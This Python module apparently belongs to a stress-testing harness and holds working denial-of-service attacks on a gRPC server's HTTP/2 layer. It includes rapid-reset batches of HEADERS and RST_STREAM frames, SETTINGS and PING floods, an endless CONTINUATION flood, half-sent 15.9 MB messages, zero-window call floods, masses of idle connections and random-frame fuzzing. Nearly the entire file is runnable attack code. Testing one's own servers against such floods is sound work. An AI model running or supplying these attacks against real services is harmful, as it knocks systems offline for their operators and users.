"""Attacks below gRPC: frames that no client library sends."""

import random
import socket
import struct
import time

import h2
from plan import Attack, Counts, Target, Window


def until(window: Window, target: Target, counts: Counts, begin, step):
    """Opens a connection and lets step() write to it until the server has had enough; then the next one."""
    while window.open():
        try:
            connection = h2.Connection(target.grpc)
        except OSError:
            counts["refused"] += 1
            time.sleep(0.05)
            continue
        connection.socket.settimeout(1)
        begin(connection)
        counts["connections"] += 1
        while window.open() and connection.open:
            step(connection)
        if not connection.open:
            counts["shown the door"] += 1
        connection.close()


def rapid_reset(target: Target, window: Window, number: int) -> Counts:
    counts = Counts()

    def step(connection):
        batch = b""
        for _ in range(100):
            stream, connection.next_stream = connection.next_stream, connection.next_stream + 2
            batch += h2.frame(h2.HEADERS, h2.END_HEADERS, stream, HEADERS) + h2.frame(h2.RST_STREAM, 0, stream, struct.pack(">I", 8))
        connection.send(batch)
        connection.read()
        counts["resets"] += 100

    until(window, target, counts, lambda connection: None, step)
    return counts


def reset_calls(target: Target, window: Window, number: int) -> Counts:
    """Whole requests, a poll each, whose streams are reset at once."""
    counts = Counts()
    body = h2.message(b"\x0a\x07default\x12\x07\x0a\x05reset")

    def step(connection):
        for _ in range(50):
            stream = connection.begin("PollActivityTaskQueue")
            connection.send(h2.frame(h2.DATA, h2.END_STREAM, stream, body) + h2.frame(h2.RST_STREAM, 0, stream, struct.pack(">I", 8)))
            counts["resets"] += 1
        connection.read()

    until(window, target, counts, lambda connection: None, step)
    return counts


def settings_and_pings(target: Target, window: Window, number: int) -> Counts:
    """Frames that want an answer, whose sender never reads."""
    counts = Counts()
    settings = h2.frame(h2.SETTINGS, 0, 0, struct.pack(">HI", 3, 100) * 10) * 200
    pings = h2.frame(h2.PING, 0, 0, b"attacked") * 500

    def step(connection):
        connection.send(settings if number % 2 else pings)
        counts["floods"] += 1

    until(window, target, counts, lambda connection: None, step)
    return counts


def continuation(target: Target, window: Window, number: int) -> Counts:
    counts = Counts()
    more = h2.frame(h2.CONTINUATION, 0, 1, h2.literal(b"a" * 60, b"b" * 100) * 20) * 20

    def step(connection):
        connection.send(more)
        connection.read()
        counts["floods"] += 1

    until(window, target, counts, lambda connection: connection.begin("GetSystemInfo", 0), step)
    return counts


def half_sent(target: Target, window: Window, number: int) -> Counts:
    """Messages of 15.9 MB of which all but the last bytes are sent."""
    counts = Counts()
    promised = 15_900_000
    data = memoryview(b"\0" + struct.pack(">I", promised) + b"z" * (promised - 1000))
    connections = []
    for _ in range(2):
        connection = h2.Connection(target.grpc)
        streams = [[connection.begin("StartWorkflowExecution"), 0] for _ in range(60)]
        connections.append((connection, streams))
        counts["streams"] += len(streams)
    while window.open():
        idle = True
        for connection, streams in connections:
            connection.read(0.005)
            for one in streams:
                if not window.open():
                    break
                sent = connection.send_data(one[0], data[one[1]:one[1] + (1 << 20)])
                one[1] += sent
                counts["MB"] += sent / 1e6
                idle = idle and not sent
        if idle:
            time.sleep(0.02)
    counts["MB"] = int(counts["MB"])
    counts["open at the end"] = sum(connection.open for connection, _ in connections)
    for connection, _ in connections:
        connection.close()
    return counts


def zero_window(target: Target, window: Window, number: int) -> Counts:
    """Thousands of calls whose answers are never read."""
    counts = Counts()
    connections = []
    while window.open():
        if len(connections) >= 20:
            time.sleep(0.1)
            continue
        connection = h2.Connection(target.grpc, struct.pack(">HI", 4, 0))
        connection.socket.settimeout(1)
        connections.append(connection)
        for _ in range(300):
            if not connection.open or not window.open():
                break
            stream = connection.begin("ListNamespaces")
            connection.send(h2.frame(h2.DATA, h2.END_STREAM, stream, h2.message(b"")))
            connection.read()
            counts["calls"] += 1
    for connection in connections:
        connection.close()
    return counts


def idle_connections(target: Target, window: Window, number: int) -> Counts:
    counts = Counts()
    connections = []
    while window.open():
        if len(connections) >= 1000:
            time.sleep(0.1)
            continue
        try:
            connections.append(h2.Connection(target.grpc))
            counts["connections"] += 1
        except OSError:
            counts["refused"] += 1
            time.sleep(0.05)
    for connection in connections:
        connection.close()
    return counts


def noise(target: Target, window: Window, number: int) -> Counts:
    """Frames of random kinds, flags and streams, with random payloads."""
    counts = Counts()
    dice = random.Random(number)

    def step(connection):
        batch = b""
        for _ in range(20):
            payload = dice.randbytes(dice.choice((0, 4, 5, 8, 100, 16384)))
            batch += h2.frame(dice.randrange(12), dice.randrange(256), dice.choice((0, 1, 3, 5, 2**31 - 1)), payload)
        connection.send(batch)
        connection.read()
        counts["frames"] += 20

    until(window, target, counts, lambda connection: None, step)
    return counts


def plain_noise(target: Target, window: Window, number: int) -> Counts:
    """What is no HTTP/2 at all."""
    counts = Counts()
    host, port = target.grpc.rsplit(":", 1)
    dice = random.Random(number)
    while window.open():
        with socket.create_connection((host, int(port)), timeout=5) as line:
            line.settimeout(0.2)
            try:
                line.sendall(dice.choice((dice.randbytes(4000), b"GET / HTTP/1.1\r\nHost: a\r\n\r\n", b"\x16\x03\x01\x02\x00" + dice.randbytes(500))))
                line.recv(1000)
            except OSError:
                pass
        counts["connections"] += 1
    return counts


HEADERS = h2.call_headers("GetSystemInfo")

ATTACKS = [
    Attack("rapid-reset", "streams that are opened and reset at once", rapid_reset),
    Attack("reset-calls", "whole calls whose streams are reset at once", reset_calls),
    Attack("settings-and-pings", "SETTINGS and PING whose answers nobody reads", settings_and_pings),
    Attack("continuation", "headers that never end", continuation),
    Attack("half-sent", "240 messages of 15.9 MB whose end never comes", half_sent),
    Attack("zero-window", "12,000 calls whose answers are never read", zero_window),
    Attack("idle-connections", "2,000 connections that say nothing", idle_connections),
    Attack("frames", "frames of random kinds", noise),
    Attack("no-http2", "bytes that are no HTTP/2", plain_noise),
]
